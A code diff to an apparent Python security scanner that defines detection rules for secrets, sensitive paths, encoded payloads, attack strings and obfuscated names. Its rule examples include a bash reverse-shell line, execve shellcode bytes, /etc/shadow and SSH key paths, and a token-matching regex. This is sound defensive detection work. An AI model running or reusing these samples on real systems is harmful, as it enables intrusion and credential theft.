@@ -6,11 +6,78 @@ import ast
 import base64
 import re
 
+from engine.analysis.python.declare import python_rule
 from engine.analysis.python.evaluate.evaluator import Walk
 from engine.analysis.python.evaluate.values import Value
-from engine.analysis.python.rules import files, objects, private, reading
+from engine.analysis.python.rules import objects
 from engine.analysis.python.sinks.paths import is_sensitive
-from engine.models import Language
+from engine.models import Confidence, Language, Level
+
+SENSITIVE_NAME = python_rule(
+    "py-sensitive-path",
+    "A sensitive place is named",
+    "fs_sensitive",
+    Level.MEDIUM,
+    attack="Knows where accounts, keys, tokens and browsers' secrets lie.",
+    why="MEDIUM: only a text; HIGH violations follow where the file is touched.",
+    fix="Remove it.",
+    match=("x = '~/.ssh/id_rsa'", "find('/etc/shadow')"),
+    not_match=("x = 'ssh'", "x = 'identity'"),
+    cwe=552,
+)
+HARDCODED = python_rule(
+    "py-hardcoded-secret",
+    "A token stands in the code",
+    "secrets_env",
+    Level.MEDIUM,
+    attack="Lets every reader use it, or sends stolen data to the attacker's own account.",
+    why="MEDIUM: its form is that of a real token.",
+    fix="Ask for the secret by reference, and revoke this one.",
+    match=("t = 'AKIAIOSFODNN7EXAMPLE'", "t = 'ghp_' 'abcdefghijklmnopqrstuvwxyz0123456789'"),
+    not_match=("t = 'AKIA'",),
+    cwe=798,
+)
+PAYLOAD = python_rule(
+    "py-payload",
+    "A text holds encoded code or machine code",
+    "obfuscation",
+    Level.MEDIUM,
+    attack="Carries a payload past the reader.",
+    why="MEDIUM: nothing here shows that it runs; CRITICAL where it does.",
+    fix="Send the decoded content.",
+    match=(
+        "x = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnbHMnKQ=='",
+        r"x = b'\x31\xc0\x50\x68//sh\x68/bin\x89\xe3\x50\x53\x89\xe1\x99\xb0\x0b\xcd\x80'",
+    ),
+    not_match=("x = 'aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0'", "x = b'\\x89PNG\\r\\n'"),
+    cwe=506,
+)
+ATTACK_TEXT = python_rule(
+    "py-attack-text",
+    "A text belongs to an attack",
+    "malware",
+    Level.MEDIUM,
+    attack="Names a collector's address, a tool or a command of an attack.",
+    why="MEDIUM: only a text; the use of it has violations of its own.",
+    fix="Remove it.",
+    match=("x = 'bash -i >& /dev/tcp/10.0.0.1/80 0>&1'",),
+    not_match=("x = 'ssh'",),
+    cwe=506,
+)
+OBFUSCATOR = python_rule(
+    "py-obfuscator",
+    "The code looks like the output of an obfuscator",
+    "obfuscation",
+    Level.MEDIUM,
+    attack="Makes the code unreadable, so that nobody reads it.",
+    why="MEDIUM: names such as these are not made by people.",
+    fix="Send the original code.",
+    match=("__obfuscator__ = 'x'", "O0O0O0O0O = 1", "_____ = 1"),
+    not_match=("O = 0", "_ = 1", "__ = 2"),
+    confidence=Confidence.MEDIUM,
+    cwe=506,
+)
+
 
 _TOKEN = re.compile(
     r"\bAKIA[0-9A-Z]{16}\b|\bgh[pousr]_[A-Za-z0-9]{36}|\bgithub_pat_\w{50}|\bxox[abprs]-[0-9A-Za-z-]{20}|"
@@ -56,13 +123,13 @@ def _check_words(walk: Walk, node: ast.Constant, text: str) -> None:
         _check_encoded(walk, node, text)
         return
     if (len(text) >= _SHORTEST_TOKEN or "pypi-" in text) and _TOKEN.search(text):
-        walk.report(private.HARDCODED, node, "A token in its real form")
+        walk.report(HARDCODED, node, "A token in its real form")
     if _ATTACK.search(text.lower()):
-        walk.report(reading.ATTACK_TEXT, node, f"`{text.strip()[:80]}`")
+        walk.report(ATTACK_TEXT, node, f"`{text.strip()[:80]}`")
     elif "_" in text and _GADGET.search(text):
         walk.report(objects.PROBE, node, f"A text for another interpreter: `{text.strip()[:80]}`")
     elif len(text) < 300 and is_sensitive(text):
-        walk.report(files.SENSITIVE_NAME, node, f"Names `{text.strip()[:80]}`")
+        walk.report(SENSITIVE_NAME, node, f"Names `{text.strip()[:80]}`")
     if len(text) >= 24 and _BASE64.match(text):
         _check_encoded(walk, node, text)
     elif not text.isascii():
@@ -92,7 +159,7 @@ def _check_bytes(walk: Walk, node: ast.AST, data: bytes) -> None:
         or b"\x90\x90" in data
     )
     if binary * 4 > min(len(data), 400) and (telling or (binary * 2 > len(data) and len(set(data)) > 12)):
-        walk.report(reading.PAYLOAD, node, f"{len(data):,} bytes that look like machine code")
+        walk.report(PAYLOAD, node, f"{len(data):,} bytes that look like machine code")
 
 
 def _check_encoded(walk: Walk, node: ast.Constant, text: str) -> None:
@@ -102,12 +169,12 @@ def _check_encoded(walk: Walk, node: ast.Constant, text: str) -> None:
     except ValueError:
         return
     if data[:2] in (b"\x78\x9c", b"\x1f\x8b", b"MZ") or data[:4] == b"\x7fELF":
-        walk.report(reading.PAYLOAD, node, "base64 of compressed content or a program")
+        walk.report(PAYLOAD, node, "base64 of compressed content or a program")
         return
     found = _CODE.search(data)
     if found is None:
         return
-    walk.report(reading.PAYLOAD, node, f"base64 of code: `{found.group().decode('latin-1')}`")
+    walk.report(PAYLOAD, node, f"base64 of code: `{found.group().decode('latin-1')}`")
     value = Value()
     value.layers = ("base64",)
     code = data.decode("utf-8", "replace")
@@ -122,7 +189,7 @@ def check_numbers(walk: Walk, node: ast.List | ast.Tuple | ast.Set) -> None:
         return
     data = bytes(part for part in numbers[:4096] if isinstance(part, int) and 0 <= part < 256)
     if _CODE.search(data) or (len(numbers) >= 64 and len(set(data)) > 24 and _hexadecimal(walk, node)):
-        walk.report(reading.PAYLOAD, node, f"{len(numbers):,} numbers that are bytes of code")
+        walk.report(PAYLOAD, node, f"{len(numbers):,} numbers that are bytes of code")
 
 
 def _hexadecimal(walk: Walk, node: ast.AST) -> bool:
@@ -132,4 +199,4 @@ def _hexadecimal(walk: Walk, node: ast.AST) -> bool:
 def check_name(walk: Walk, node: ast.AST, name: str) -> None:
     """Look at a name that the code itself gives."""
     if _OBFUSCATED.match(name):
-        walk.report(reading.OBFUSCATOR, node, f"`{name[:40]}` is no name that a person gives")
+        walk.report(OBFUSCATOR, node, f"`{name[:40]}` is no name that a person gives")
